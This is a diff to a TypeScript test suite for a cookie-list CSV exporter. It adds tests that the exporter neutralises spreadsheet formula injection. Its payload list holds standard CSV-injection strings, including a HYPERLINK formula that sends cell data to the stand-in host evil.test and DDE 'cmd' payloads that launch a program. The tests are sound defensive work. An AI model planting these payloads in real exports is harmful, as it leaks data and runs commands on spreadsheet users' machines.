@@ -52,6 +52,47 @@ function parseCsv(text: string): string[][] {
   return records;
 }
 
+/**
+ * What the comment in csv.ts tells a reader to do with a text cell: a leading `'` was added by the
+ * writer, so drop exactly one.
+ */
+function unguard(field: string): string {
+  return field.startsWith("'") ? field.slice(1) : field;
+}
+
+/**
+ * What a spreadsheet would take for a formula or a command: a cell that starts with `=`, `+`, `-`
+ * or `@` once leading whitespace and invisible characters are skipped, or one that starts with a
+ * tab or carriage return.
+ */
+const FORMULA_START = /^(?:[\t\r]|[\s\p{Cc}\p{Cf}]*[=+\-@])/u;
+
+/** OWASP's usual CSV-injection payloads, and the same after whitespace a spreadsheet skips. */
+const FORMULA_PAYLOADS: readonly string[] = [
+  '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3',
+  '@SUM(1)',
+  '\t=1',
+  '\r=1',
+  '\t',
+  '\r',
+  ' =1',
+  '  +1',
+  '\n-1',
+  '\u00a0@SUM(1)',
+  '\u3000=1',
+  '\u200b=1',
+  '\ufeff=1',
+  '\u0000=1',
+  '=1,=2',
+  '-1+1;=cmd',
+  '=',
+  '-',
+];
+
 function rowsOf(cookies: readonly LabelledCookie[]): Record<string, string>[] {
   const [header, ...rows] = parseCsv(formatCsv(cookies));
   expect(header).toEqual(CSV_COLUMNS);
@@ -72,6 +113,30 @@ describe('csvField', () => {
     expect(csvField(null)).toBe('');
     expect(csvField(false)).toBe('false');
     expect(csvField(0.5)).toBe('0.5');
+  });
+
+  it.each(FORMULA_PAYLOADS.map((t) => [JSON.stringify(t), t]))(
+    'puts a quote before %s and quotes the field',
+    (_, t) => {
+      expect(csvField(t)).toBe(`"'${t.replaceAll('"', '""')}"`);
+    },
+  );
+
+  it('puts a quote before text that already starts with one, so that one is always dropped', () => {
+    expect(csvField("'=1")).toBe(`"''=1"`);
+    expect(csvField("'plain")).toBe(`"''plain"`);
+    expect(csvField("it's")).toBe("it's");
+  });
+
+  it('leaves numbers and booleans alone, however negative', () => {
+    expect(csvField(-1)).toBe('-1');
+    expect(csvField(-0.5)).toBe('-0.5');
+    expect(csvField(true)).toBe('true');
+  });
+
+  it('leaves text with a formula character later in it alone', () => {
+    expect(csvField('a=b')).toBe('a=b');
+    expect(csvField('GA1.2-3+4@x')).toBe('GA1.2-3+4@x');
   });
 });
 
@@ -117,16 +182,36 @@ describe('formatCsv', () => {
     expect(row.expiration_date).toBe('');
   });
 
-  it.each(HOSTILE_TEXT.map((t) => [JSON.stringify(t.slice(0, 30)), t]))(
-    'round-trips %s in every text column',
-    (_, t) => {
-      const [row] = rowsOf([
-        makeCookie({ name: t, value: t, domain: t, path: t }, { vendor: t, purpose: t, reason: t }),
-      ]);
-      for (const column of ['name', 'value', 'domain', 'path', 'vendor', 'purpose', 'reason'])
-        expect(row[column]).toBe(t);
-    },
-  );
+  const TEXT_COLUMNS = [
+    'name',
+    'value',
+    'domain',
+    'path',
+    'partition_top_level_site',
+    'vendor',
+    'purpose',
+    'reason',
+    'if_deleted_reason',
+    'entry_id',
+  ];
+
+  it.each(
+    [...HOSTILE_TEXT, ...FORMULA_PAYLOADS, "'quoted by the site", "''=1"].map((t) => [
+      JSON.stringify(t.slice(0, 30)),
+      t,
+    ]),
+  )('round-trips %s in every text column, with no cell a spreadsheet would run', (_, t) => {
+    const [row] = rowsOf([
+      makeCookie(
+        { name: t, value: t, domain: t, path: t, partitionKey: { topLevelSite: t } },
+        { vendor: t, purpose: t, reason: t, ifDeletedReason: t, entryId: t },
+      ),
+    ]);
+    for (const column of TEXT_COLUMNS) {
+      expect(row[column]).not.toMatch(FORMULA_START);
+      expect(unguard(row[column])).toBe(t);
+    }
+  });
 
   it('round-trips any cookie (property)', () => {
     fc.assert(
@@ -135,12 +220,13 @@ describe('formatCsv', () => {
         expect(rows).toHaveLength(cookies.length);
         rows.forEach((row, i) => {
           const { cookie, label } = cookies[i];
-          expect(row.name).toBe(cookie.name);
-          expect(row.value).toBe(cookie.value);
-          expect(row.domain).toBe(cookie.domain);
-          expect(row.path).toBe(cookie.path);
-          expect(row.vendor).toBe(label.vendor ?? '');
-          expect(row.purpose).toBe(label.purpose ?? '');
+          for (const field of Object.values(row)) expect(field).not.toMatch(FORMULA_START);
+          expect(unguard(row.name)).toBe(cookie.name);
+          expect(unguard(row.value)).toBe(cookie.value);
+          expect(unguard(row.domain)).toBe(cookie.domain);
+          expect(unguard(row.path)).toBe(cookie.path);
+          expect(unguard(row.vendor)).toBe(label.vendor ?? '');
+          expect(unguard(row.purpose)).toBe(label.purpose ?? '');
           expect(row.category).toBe(label.category);
           expect(row.http_only).toBe(String(cookie.httpOnly));
           expect(row.size).toBe(String(cookieSize(cookie)));
